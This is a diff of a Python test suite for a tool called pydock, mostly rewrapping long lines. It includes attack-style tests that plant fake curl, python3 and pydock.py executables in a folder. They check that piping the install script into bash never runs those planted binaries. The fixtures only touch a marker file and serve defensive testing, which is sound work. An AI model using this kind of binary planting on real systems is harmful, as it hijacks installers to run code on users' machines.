-        subprocess.run(["/bin/sh", "-c", text + "\npython3 -c pass\ndeactivate\n"], cwd=self.work, env={**self.environ, "PATH": path}, stdin=subprocess.DEVNULL, timeout=TIME)
+        subprocess.run(["/bin/sh", "-c", text + "\npython3 -c pass\ndeactivate\n"], cwd=self.work, env={**self.environ, "PATH": path},
+                stdin=subprocess.DEVNULL, timeout=TIME)
         self.assertEqual(self.marker().exists() and self.marker().read_text(encoding="utf-8"), False)
 
     def test_in_a_deleted_folder(self) -> None:
-        for argv in (["export", "e", "x.tar"], ["install", "e", "./x"], ["run", "e", "true"], ["create", "n", "--from", "./x.tar"], ["install", "e", "-r", "x.txt"], ["start", "e"], ["list"], ["--local", "list"]):
+        for argv in (["export", "e", "x.tar"], ["install", "e", "./x"], ["run", "e", "true"], ["create", "n", "--from", "./x.tar"],
+                ["install", "e", "-r", "x.txt"], ["start", "e"], ["list"], ["--local", "list"]):
             gone = self.base / "gone"
             gone.mkdir(exist_ok=True)
             with self.subTest(argv):
                 script = 'cd "$1" && rmdir "$1" && shift && exec "$@"'
-                done = subprocess.run(["/bin/sh", "-c", script, "sh", str(gone), *self.program, *argv], env=self.environ, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=TIME)
+                done = subprocess.run(["/bin/sh", "-c", script, "sh", str(gone), *self.program, *argv], env=self.environ, stdin=subprocess.DEVNULL,
+                        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=TIME)
                 self.assertNotIn("Traceback", done.stderr)
                 self.assertNotIn("[Errno", done.stderr)
                 self.assertNotIn("bug in pydock", done.stderr)
@@ -1303,15 +1540,18 @@ class Strangers(Attack):
     def test_the_installation_by_a_pipe_runs_nothing_of_the_folder(self) -> None:
         folder = self.base / "repository" / "install"
         folder.mkdir(parents=True)
-        for path in (folder / "bash", folder.parent / "bash"):
-            path.write_text("", encoding="utf-8")
+        for file in (folder / "bash", folder.parent / "bash"):
+            file.write_text("", encoding="utf-8")
         for name in ("pydock.py", "python3", "curl"):
             for where in (folder, folder.parent):
-                (where / name).write_text("#!/bin/sh\n''':'\ntouch %s\n':'''\nopen(%r, 'w')\n" % (shlex.quote(str(self.marker())), str(self.marker())), encoding="utf-8")
+                (where / name).write_text("#!/bin/sh\n''':'\ntouch %s\n':'''\nopen(%r, 'w')\n" % (shlex.quote(str(self.marker())), str(self.marker())),
+                        encoding="utf-8")
                 (where / name).chmod(0o755)
         text = (ROOT / "install" / "linux.sh").read_text(encoding="utf-8")
         for cwd in (folder, folder.parent):
             for path in ("/usr/bin:/bin", "%s:/usr/bin:/bin" % folder):
-                subprocess.run(["bash", "-s", "--", "--prefix", str(self.base / "installed")], input=text, cwd=cwd, env={**self.environ, "PATH": path, "https_proxy": "http://127.0.0.1:1"}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, text=True, timeout=TIME)
+                subprocess.run(["bash", "-s", "--", "--prefix", str(self.base / "installed")], input=text, cwd=cwd,
+                        env={**self.environ, "PATH": path, "https_proxy": "http://127.0.0.1:1"}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                        text=True, timeout=TIME)
                 self.assertFalse(self.marker().exists(), (cwd, path))
                 self.assertFalse((self.base / "installed" / "bin" / "pydock").exists())
